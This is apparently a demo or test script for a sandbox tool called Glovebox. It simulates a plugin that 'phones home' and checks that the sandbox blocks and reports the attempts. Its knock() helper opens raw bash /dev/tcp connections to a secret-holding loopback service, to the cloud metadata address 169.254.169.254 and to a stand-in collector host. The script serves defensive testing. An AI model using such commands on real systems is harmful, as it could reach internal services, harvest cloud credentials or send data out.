/** The fourth job: a plugin that may talk to one host, and tries three others. */
import { spawn, spawnSync } from 'node:child_process'
import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { glovebox } from './glovebox.mjs'
import { checks, command, reported, tell, title } from './screen.mjs'

const SECRET = 'the-secret-of-this-machine'
/** A service as many run one: for this machine only, and so without a password. */
const SERVICE = `require('node:http').createServer((_, answer) => answer.end('${SECRET}'))
  .listen(0, '127.0.0.1', function () { console.log(this.address().port) })`

export async function phoneHome(stage) {
  title('4. A plugin that phones home')
  const service = spawn(process.execPath, ['-e', SERVICE], { stdio: ['ignore', 'pipe', 'inherit'] })
  try {
    const port = String(await new Promise((resolve) => service.stdout.once('data', resolve))).trim()
    return tryFrom(stage, port)
  } finally {
    service.kill('SIGKILL')
  }
}

function tryFrom({ folder, waive }, port) {
  const plugin = [
    knock('127.0.0.1', port),
    knock('169.254.169.254', 80),
    knock('collector.example.net', 443),
  ].join('; ')
  const outside = spawnSync('bash', ['-c', knock('127.0.0.1', port)], { encoding: 'utf8', timeout: 20_000 })
  tell(`On this machine: a service at 127.0.0.1:${port} that only this machine is to reach.`)
  tell(`Without Glovebox: the plugin reads ${outside.stdout.includes(SECRET) ? 'its answer' : 'nothing'}.`)

  const waivers = waive.flatMap((name) => ['--waive', name])
  const flags = ['run', ...waivers, '--allow-host', 'api.example.com', '--report', 'report.json', '--']
  const { stdout } = glovebox([...flags, 'bash', '-c', plugin], folder)
  command(['glovebox', ...flags, './plugin'])
  const report = JSON.parse(readFileSync(join(folder, 'report.json'), 'utf8'))
  for (const { name, address, port: tried, verdict } of report.network)
    tell(`tried ${name ?? address}${tried === null ? '' : `, port ${tried}`}: ${verdict}`)
  reported(report)
  const verdicts = report.network.map(({ verdict }) => verdict)
  return checks([
    [outside.stdout.includes(SECRET), 'outside, it reached the service (so the attack works)'],
    [!stdout.includes(SECRET), 'inside, nothing answered that the policy does not name'],
    [
      ['denyLoopback', 'denyMetadata', 'denyName'].every((each) => verdicts.includes(each)),
      'each attempt is in the report, and says why',
    ],
  ])
}

/** What bash can do without any program: a connection, a request, the answer. */
function knock(host, port) {
  return `(exec 3<>/dev/tcp/${host}/${port} && printf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3 && cat <&3) 2>/dev/null`
}
